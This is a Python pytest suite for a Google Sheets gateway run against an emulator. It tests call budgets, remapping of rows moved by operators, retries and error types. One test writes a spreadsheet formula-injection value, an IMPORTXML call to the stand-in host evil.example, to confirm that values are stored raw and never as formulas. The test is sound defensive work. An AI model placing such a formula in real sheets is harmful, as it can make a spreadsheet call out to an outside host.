"""The gateway against the emulator: budget, moved rows, operator cells, retries, CJK names, RAW."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import gspread
import pytest

from emulators.control import ControlFailed, SheetsControl
from shared.sheets import errors
from shared.sheets.append_cells import Appendix, append_all
from shared.sheets.gateway import CellNote, CellWrite, Outcome, RowFormat, SheetsGateway, connect
from shared.sheets.http import CallCounter
from shared.sheets.layout import TableLayout
from shared.sheets.orders import order_rows, orders_layout
from shared.sheets.retry_rules import DEFAULT_RETRY
from shared.sheets.settings import SheetsSettings, load_settings
from sheet_templates import workspace as tpl

from .conftest import Sleeps, cells

ORDERS = "订单"
LOG = "日志"
# Template order (zh): A 订单号 ... G 供应商, H 供应商单号, I 快递公司, J 快递单号, K 状态, L 说明
TRACKING_COL = 10
STATUS_COL = 11
EMPTY_OPERATOR = ("", "", "", "")  # 供应商, 供应商单号, 快递公司, 快递单号


def seed_orders(operator: gspread.Spreadsheet, n: int) -> None:
    ws = operator.worksheet(ORDERS)
    if n + 1 > ws.row_count:
        ws.add_rows(n + 1 - ws.row_count)
    rows = [
        [
            f"37{i:08d}",
            "2026-11-25 10:00",
            "2026-11-27 10:00",
            f"商品 {i} × 1",
            1,
            "张**",
            *EMPTY_OPERATOR,
            "待单号",
        ]
        for i in range(n)
    ]
    ws.update(rows, "A2")


def tracking_writes(layout: TableLayout, gw: SheetsGateway) -> tuple[Any, list[CellWrite]]:
    table = gw.read([layout])[ORDERS]
    writes = [CellWrite(r.key, r.number, "tracking_numbers", f"SF{r.key}") for r in table.rows]
    writes += [CellWrite(r.key, r.number, "status", "待推送") for r in table.rows]
    return table, writes


def test_read_is_one_batch_get_with_typed_rows(gateway: SheetsGateway, operator: gspread.Spreadsheet) -> None:
    seed_orders(operator, 10)
    gateway.calls.reset()
    tables = gateway.read([orders_layout()], headers_only=[TableLayout.from_template(tpl.LOG)])
    assert gateway.calls.snapshot() == {"values.batchGet": 1}
    orders = order_rows(tables[ORDERS])
    assert len(orders) == 10
    assert orders[0].order_id == "3700000000"
    assert orders[0].state is not None and orders[0].state.value == "awaiting_tracking"
    assert orders[0].quantity == "1"
    assert tables[LOG].rows == ()
    assert tables[LOG].columns["order_id"] == 2


@pytest.mark.parametrize("rows", [10, pytest.param(10_000, marks=pytest.mark.slow)])
def test_call_budget_is_independent_of_row_count(
    gateway: SheetsGateway, operator: gspread.Spreadsheet, rows: int
) -> None:
    seed_orders(operator, rows)
    layout = orders_layout()
    gateway.calls.reset()
    table, writes = tracking_writes(layout, gateway)
    # Every 10th row coloured: the emulator paints cell by cell, so colouring all 10,000 rows only
    # makes the test slow; the number of API calls is the same either way.
    formats = [RowFormat(r.key, r.number, tpl.BLUE.as_api()) for r in table.rows[::10]]
    notes = [CellNote(r.key, r.number, "message", "供应商回传") for r in table.rows[:5]]
    report = gateway.write(table, writes, formats, notes)
    assert len(report.applied) == 2 * rows + len(formats) + 5
    assert gateway.calls.snapshot() == {
        "values.batchGet": 2,  # the read, and the re-read right before writing
        "spreadsheets.get": 1,  # sheet ids, once per gateway
        "values.batchUpdate": 1,
        "spreadsheets.batchUpdate": 1,
    }
    again = gateway.read([layout])[ORDERS]
    assert all(r["tracking_numbers"] == f"SF{r.key}" for r in again.rows)
    assert len(again.rows) == rows


def test_operator_sorting_between_read_and_write_is_remapped(
    gateway: SheetsGateway, operator: gspread.Spreadsheet, emulator: Any, workspace: SheetsSettings
) -> None:
    seed_orders(operator, 6)
    table, writes = tracking_writes(orders_layout(), gateway)
    notes = [CellNote(r.key, r.number, "message", f"note {r.key}") for r in table.rows]
    # The operator sorts by order id, descending, while the tick is thinking.
    ws = operator.worksheet(ORDERS)
    ws.sort((1, "des"), range=f"A2:N{ws.row_count}")
    assert ws.acell("A2").value == "3700000005"
    report = gateway.write(table, writes, notes=notes)
    outcomes = report.outcomes()
    assert outcomes[Outcome.REMAPPED] >= 10  # rows that did not land on the same place
    assert Outcome.ROW_GONE not in outcomes
    after = gateway.read([orders_layout()])[ORDERS]
    for row in after.rows:
        assert row["tracking_numbers"] == f"SF{row.key}"
        assert row["status"] == "待推送"
    grid = cells(emulator, workspace, ORDERS)
    for row in after.rows:
        assert grid[(row.number - 1, 11)].get("note") == f"note {row.key}"


def test_operator_typing_into_a_cell_the_system_wanted_to_fill_wins(
    gateway: SheetsGateway, operator: gspread.Spreadsheet
) -> None:
    seed_orders(operator, 3)
    table, writes = tracking_writes(orders_layout(), gateway)
    target = table.rows[1]
    operator.worksheet(ORDERS).update_acell(f"J{target.number}", "YT1234567890123")
    report = gateway.write(table, writes)
    by_item = {(r.item.key, r.item.field): r.outcome for r in report.results if isinstance(r.item, CellWrite)}
    assert by_item[(target.key, "tracking_numbers")] is Outcome.OPERATOR_CELL_FILLED
    assert by_item[(target.key, "status")] is Outcome.WRITTEN  # a system column is written freely
    assert by_item[(table.rows[0].key, "tracking_numbers")] is Outcome.WRITTEN
    after = gateway.read([orders_layout()])[ORDERS].by_key()
    assert after[target.key]["tracking_numbers"] == "YT1234567890123"


def test_deleted_row_and_moved_column(gateway: SheetsGateway, operator: gspread.Spreadsheet) -> None:
    seed_orders(operator, 3)
    table, writes = tracking_writes(orders_layout(), gateway)
    gone = table.rows[0]
    operator.worksheet(ORDERS).delete_rows(gone.number)
    report = gateway.write(table, writes)
    for res in report.results:
        assert (res.outcome is Outcome.ROW_GONE) == (res.item.key == gone.key)
    # A column inserted before the data moves every field: nothing is written, the next tick redoes it.
    table, writes = tracking_writes(orders_layout(), gateway)
    operator.worksheet(ORDERS).insert_cols([["运营备注"]], 1)
    report = gateway.write(table, writes)
    assert {r.outcome for r in report.results} == {Outcome.LAYOUT_CHANGED}
    # Read again: columns are found by header text at their new places.
    table = gateway.read([orders_layout()])[ORDERS]
    assert table.columns["order_id"] == 2
    report = gateway.write(table, [CellWrite(r.key, r.number, "status", "已发货") for r in table.rows])
    assert [r.outcome for r in report.results] == [Outcome.WRITTEN, Outcome.WRITTEN]
    assert [r["status"] for r in gateway.read([orders_layout()])[ORDERS].rows] == ["已发货", "已发货"]


def test_values_are_written_raw_never_as_formulas(
    gateway: SheetsGateway, operator: gspread.Spreadsheet, emulator: Any, workspace: SheetsSettings
) -> None:
    seed_orders(operator, 1)
    table = gateway.read([orders_layout()])[ORDERS]
    row = table.rows[0]
    evil = '=IMPORTXML("http://evil.example/x","//a")'
    gateway.write(table, [CellWrite(row.key, row.number, "message", evil)])
    append_all(
        gateway,
        [
            Appendix(
                gateway.read([], headers_only=[TableLayout.from_template(tpl.LOG)])[LOG], [{"reason": evil}]
            )
        ],
    )
    for sheet in (ORDERS, LOG):
        grid = cells(emulator, workspace, sheet)
        assert not any(c.get("formula") for c in grid.values())
        assert any(c.get("value") == evil for c in grid.values())


def test_append_to_log_follows_the_header(gateway: SheetsGateway, operator: gspread.Spreadsheet) -> None:
    log_layout = TableLayout.from_template(tpl.LOG)
    ws = operator.worksheet(LOG)
    header = ws.row_values(1)
    ws.update([list(reversed(header))], "A1")  # an operator reordered the log's columns
    gateway.sheet_ids()  # cached for the gateway's life (one metadata GET the first time)
    gateway.calls.reset()
    head = gateway.read([], headers_only=[log_layout])[LOG]
    n = append_all(
        gateway,
        [
            Appendix(
                head,
                [
                    {"at": "2026-11-26 04:00", "order_id": "3700000001", "actor": "system", "new": "SF1"},
                    {
                        "at": "2026-11-26 04:01",
                        "order_id": "3700000002",
                        "actor": "ops@example.com",
                        "old": "SF1",
                    },
                ],
            )
        ],
    )
    assert n == 2
    assert gateway.calls.snapshot() == {"values.batchGet": 1, "spreadsheets.batchUpdate": 1}
    rows = gateway.read([log_layout])[LOG].rows
    assert [(r["order_id"], r["actor"], r["new"], r["old"]) for r in rows] == [
        ("3700000001", "system", "SF1", ""),
        ("3700000002", "ops@example.com", "", "SF1"),
    ]


def test_recovers_from_429_with_bounded_backoff(
    gateway: SheetsGateway, operator: gspread.Spreadsheet, emulator: Any, sleeps: Sleeps
) -> None:
    seed_orders(operator, 2)
    gateway.calls.reset()
    emulator.emulator.add_faults([{"code": 429}, {"code": 503}])
    tables = gateway.read([orders_layout()])
    assert len(tables[ORDERS].rows) == 2
    assert gateway.calls.snapshot() == {"values.batchGet": 3}
    assert gateway.calls.retries == 2
    assert len(sleeps) == 2 and all(0 < s <= 16 for s in sleeps)


def test_gives_up_after_the_attempt_limit(gateway: SheetsGateway, emulator: Any, sleeps: Sleeps) -> None:
    emulator.emulator.add_faults([{"code": 429}] * 6)
    gateway.calls.reset()
    with pytest.raises(errors.SheetsRateLimited) as info:
        gateway.read([orders_layout()])
    assert info.value.http_status == 429
    assert info.value.google_status == "RESOURCE_EXHAUSTED"
    assert gateway.calls.snapshot() == {"values.batchGet": 4}  # max_attempts=4 in the fixture
    assert len(sleeps) == 3
    emulator.emulator.faults.clear()


def test_errors_are_the_adapter_family(gateway: SheetsGateway, emulator: Any) -> None:
    with pytest.raises(errors.SheetLayoutError):
        gateway.read([TableLayout(title="不存在的表", columns=())])
    missing = connect(load_settings({}, api_base=emulator.url, spreadsheet_id="nope", anonymous=True))
    with pytest.raises(errors.SheetsNotFound) as info:
        missing.read([orders_layout()])
    assert info.value.http_status == 404


def test_a_spreadsheet_not_shared_with_the_service_account_is_permission_denied(
    emulator: Any, control: SheetsControl
) -> None:
    # Google answers 403 PERMISSION_DENIED (not 404) when the spreadsheet exists but is not shared
    # with the caller: the operator forgot to share it with the service account.
    try:
        control.create_spreadsheet("t-not-shared", properties={"title": "x"}, shared_with=["someone-else"])
    except ControlFailed as refused:
        assert refused.status == 409, refused  # it exists already: the emulator lives for the session
    denied = connect(load_settings({}, api_base=emulator.url, spreadsheet_id="t-not-shared", anonymous=True))
    with pytest.raises(errors.SheetsPermissionDenied) as info:
        denied.read([orders_layout()])
    assert info.value.http_status == 403 and info.value.google_status == "PERMISSION_DENIED"


def test_unreachable_api_is_sheets_unavailable(sleeps: Sleeps) -> None:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    settings = load_settings({}, api_base=f"http://127.0.0.1:{port}", spreadsheet_id="x", anonymous=True)
    gw = connect(settings, counter=CallCounter(), policy=replace(DEFAULT_RETRY, attempts=2), sleep=sleeps)
    with pytest.raises(errors.SheetsUnavailable) as info:
        gw.read([orders_layout()])
    assert info.value.http_status is None
    assert gw.calls.snapshot() == {"values.batchGet": 2}


def test_cjk_and_quoted_tab_names(settings: SheetsSettings) -> None:
    gw = connect(settings)
    gw.http.batch_update(
        settings.spreadsheet_id,
        {"requests": [{"addSheet": {"properties": {"title": "供应商 'feed' 表"}}}]},
    )
    layout = TableLayout.from_template(tpl.ORDERS, "zh")
    layout = TableLayout(title="供应商 'feed' 表", columns=layout.columns, key_field="order_id")
    gw.http.values_batch_update(
        settings.spreadsheet_id,
        {
            "valueInputOption": "RAW",
            "data": [{"range": "'供应商 ''feed'' 表'!A1", "values": [["订单号", "快递单号"], ["1", ""]]}],
        },
    )
    table = gw.read([layout])["供应商 'feed' 表"]
    report = gw.write(table, [CellWrite("1", 2, "tracking_numbers", "中通 75123")], [RowFormat("1", 2, None)])
    assert [r.outcome for r in report.results] == [Outcome.WRITTEN, Outcome.WRITTEN]
    assert gw.read([layout])["供应商 'feed' 表"].rows[0]["tracking_numbers"] == "中通 75123"


def test_read_rows_touched_by_an_edit(gateway: SheetsGateway, operator: gspread.Spreadsheet) -> None:
    seed_orders(operator, 50)
    gateway.calls.reset()
    table = gateway.read_rows(orders_layout(), 10, 12)
    assert gateway.calls.snapshot() == {"values.batchGet": 1}
    assert [(r.number, r.key) for r in table.rows] == [
        (10, "3700000008"),
        (11, "3700000009"),
        (12, "3700000010"),
    ]
    report = gateway.write(table, [CellWrite(r.key, r.number, "status", "单号有误") for r in table.rows])
    assert {r.outcome for r in report.results} == {Outcome.WRITTEN}
    assert gateway.read([orders_layout()])[ORDERS].by_key()["3700000009"]["status"] == "单号有误"


def test_recovers_when_the_per_minute_quota_refills(
    workspace: SheetsSettings, control: SheetsControl
) -> None:
    """The emulator's real quota (not an injected fault) answers 429; "sleeping" lets the minute pass."""
    waited: list[float] = []

    def minute_passes(seconds: float) -> None:
        waited.append(seconds)
        control.reset_quota_windows()

    gw = connect(workspace, counter=CallCounter(), sleep=minute_passes)
    control.set_quota(reads_per_minute=1, writes_per_minute=100)
    try:
        gw.read([orders_layout()])
        tables = gw.read([orders_layout()])  # over the quota: 429, wait, retry
        assert tables[ORDERS].rows == ()
        assert gw.calls.snapshot() == {"values.batchGet": 3}
        assert len(waited) == 1
        assert control.quota()["rejected"] >= 1
    finally:
        control.set_quota(None, None)


def test_grid_sizes_are_every_tabs_rows_and_columns_in_one_metadata_get(
    gateway: SheetsGateway, operator: gspread.Spreadsheet
) -> None:
    """What the archive counts against a spreadsheet's cell limit (shared/app/archive_books.py)."""
    operator.add_worksheet("归档-2026-11", rows=3, cols=14)
    before = gateway.calls.total
    sizes = gateway.grid_sizes()
    assert gateway.calls.total - before == 1
    assert sizes["归档-2026-11"] == (3, 14)
    expected = {w.title: (w.row_count, w.col_count) for w in operator.worksheets()}
    assert sizes == expected
    assert set(gateway.sheet_ids()) == set(expected) and gateway.calls.total - before == 1  # cached
